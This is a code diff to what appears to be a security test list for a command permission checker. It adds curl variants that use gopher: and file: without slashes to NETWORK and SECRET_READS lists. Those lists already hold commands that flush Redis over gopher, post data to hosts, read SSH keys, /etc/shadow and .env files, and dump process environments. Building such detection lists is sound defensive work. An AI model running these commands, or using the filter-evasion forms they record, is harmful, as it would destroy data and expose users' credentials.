@@ -152,6 +152,7 @@ NETWORK = ask(
     # Redis on 127.0.0.1 too): gopher carries any bytes
     "curl gopher://127.0.0.1:6379/_FLUSHALL", "curl dict://127.0.0.1:6379/FLUSHALL", "curl telnet://127.0.0.1:5432",
     "curl --proto-default gopher 127.0.0.1:6379/_x", "curl --url ldap://x", "curl -s smb://x/share/f",
+    "curl -s gopher:127.0.0.1:6379/_x",
     "curl -sd x http://example.com", "curl -d x http://x", "curl -dx http://x", "curl --data x http://x",
     "curl --data-raw x http://x", "curl --data-binary @file http://x", "curl --data-urlencode a=b http://x",
     "curl -F f=@file http://x", "curl --form f=@file http://x", "curl -T file http://x",
@@ -292,7 +293,7 @@ SECRET_READS = [
     # curl reads local files by their URL
     "curl file:///home/dev/.ssh/id_rsa", "curl -s FILE:///root/.ssh/id_rsa", "curl file://localhost/etc/shadow",
     "curl file:///etc/%73hadow", "curl --url file:///proc/1/environ", "curl --proto-default file /etc/shadow",
-    "curl 'file:///root/.ssh/{id_rsa,id_ed25519}'",
+    "curl 'file:///root/.ssh/{id_rsa,id_ed25519}'", "curl -s file:/root/.ssh/id_rsa",  # curl takes `file:/p` too
     # BSD `ps e` prints each process's environment: the server's secrets, same user
     "ps eww", "ps axe", "ps e -p 1", "ps auxe",
     "awk 'BEGIN{while((getline l < \".env\")>0) print l}'", "awk 'BEGIN{f=\".env\"; getline l < f; print l}'",
